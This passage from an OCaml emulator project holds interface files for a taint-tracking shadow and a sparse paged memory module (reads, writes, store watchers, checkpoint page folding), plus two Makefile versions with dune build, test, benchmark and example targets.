(** The first non-zero id in [addr, addr+len), or [0]. *)

val allocated_pages : t -> int

val clone : t -> t
(** Deep copy of the shadow (fork copies provenance alongside memory). *)

val fold_pages : t -> init:'a -> f:('a -> int64 -> bytes -> 'a) -> 'a
(** Fold over allocated shadow pages in ascending key order, skipping
    all-zero pages (a missing page reads as id 0).  The [bytes] is the
    live backing store: do not mutate it. *)

val load_page : t -> int64 -> string -> unit
(** Install a page dumped by {!fold_pages}.
    @raise Invalid_argument on a size mismatch. *)
