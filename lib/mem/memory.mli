(** Sparse paged physical backing for the 64-bit virtual address space.

    Pages are allocated lazily and zero-filled, which conveniently gives
    the taint bitmap (region 0) an all-clear initial state.  Validity of
    addresses (canonicality, null guard) is the machine's concern; this
    module only moves bytes. *)

type t

val fast_path : bool ref
(** When true (the default), reads and writes use the word-width page
    fast path and the software TLB; when false, every access walks the
    original byte-at-a-time reference path.  The two are observationally
    identical — the flag exists so differential tests and the
    [throughput] bench experiment can run the reference implementation
    on demand.  Not a tuning knob: leave it on. *)

val create : unit -> t

val page_size : int

val watch : t -> lo:int64 -> hi:int64 -> (int64 -> int -> unit) -> unit
(** Register a store observer for the address range [\[lo, hi)].  Every
    top-level write whose range intersects a watched range calls each
    observer with the written address and length, at least once —
    observers must be idempotent, because byte-walk fallbacks may
    re-notify per byte.  Reads never notify.  The superblock compiler
    uses this to invalidate compiled blocks on stores into the code
    region; when no watcher is registered the cost is one list check
    per write. *)

val read_u8 : t -> int64 -> int
val write_u8 : t -> int64 -> int -> unit

val read : t -> int64 -> width:int -> int64
(** Little-endian read of [width] bytes (1, 2, 4 or 8), zero-extended. *)

val write : t -> int64 -> width:int -> int64 -> unit
(** Little-endian write of the low [width] bytes of the value. *)

val read_ref : t -> int64 -> width:int -> int64
val write_ref : t -> int64 -> width:int -> int64 -> unit
(** The byte-at-a-time reference implementations of {!read} and
    {!write}.  [read]/[write] must agree with them on every access;
    differential tests call both sides directly. *)

val read_bytes : t -> int64 -> len:int -> string
val write_bytes : t -> int64 -> string -> unit

val read_cstring : ?max:int -> t -> int64 -> string
(** Read a NUL-terminated string (at most [max] bytes, default 65536;
    truncated if no NUL is found). *)

val write_cstring : t -> int64 -> string -> unit
(** Write the string followed by a NUL byte. *)

val allocated_pages : t -> int
(** Number of pages touched so far (for tests and reporting). *)

val clone : t -> t
(** Deep copy: a fresh memory whose pages hold the same bytes but never
    alias the original (fork's address-space copy).  The clone has a
    cold TLB and no watchers. *)

(** {1 Page iteration (checkpoint/restore)} *)

val fold_pages : t -> init:'a -> f:('a -> int64 -> bytes -> 'a) -> 'a
(** Fold over the allocated pages in ascending page-key order (the key
    is the address shifted right by log2 page size).  All-zero pages
    are skipped — a never-allocated page reads as zeros, so eliding
    them is invisible to {!read}.  The [bytes] is the live backing
    store: do not mutate it. *)

val load_page : t -> int64 -> string -> unit
(** [load_page t key data] installs [data] (exactly {!page_size} bytes)
    as the page with the given key, allocating it if needed.
    @raise Invalid_argument on a size mismatch. *)
