# Convenience targets; everything is plain dune underneath.

.PHONY: all test bench bench-serial doc examples clean outputs

all:
	dune build @all

test:
	dune runtest

# all cores (-j 0 = recommended domain count), JSON results alongside
# the printed tables
bench:
	dune exec bench/main.exe -- -j 0 --json

# the single-domain reference run the parallel output must match
bench-serial:
	dune exec bench/main.exe -- -j 1

doc:
	dune build @doc

examples:
	dune exec examples/quickstart.exe
	dune exec examples/attack_demo.exe
	dune exec examples/policy_lab.exe
	dune exec examples/tracing.exe
	dune exec examples/threads.exe

# the artifacts EXPERIMENTS.md is based on
outputs:
	dune runtest --force --no-buffer 2>&1 | tee test_output.txt
	dune exec bench/main.exe -- -j 0 --json 2>&1 | tee bench_output.txt

clean:
	dune clean
