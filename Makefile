# Convenience targets; everything is plain dune underneath.

.PHONY: all test bench examples clean outputs

all:
	dune build @all

test:
	dune runtest

bench:
	dune exec bench/main.exe

examples:
	dune exec examples/quickstart.exe
	dune exec examples/attack_demo.exe
	dune exec examples/policy_lab.exe
	dune exec examples/tracing.exe
	dune exec examples/threads.exe

# the artifacts EXPERIMENTS.md is based on
outputs:
	dune runtest --force --no-buffer 2>&1 | tee test_output.txt
	dune exec bench/main.exe 2>&1 | tee bench_output.txt

clean:
	dune clean
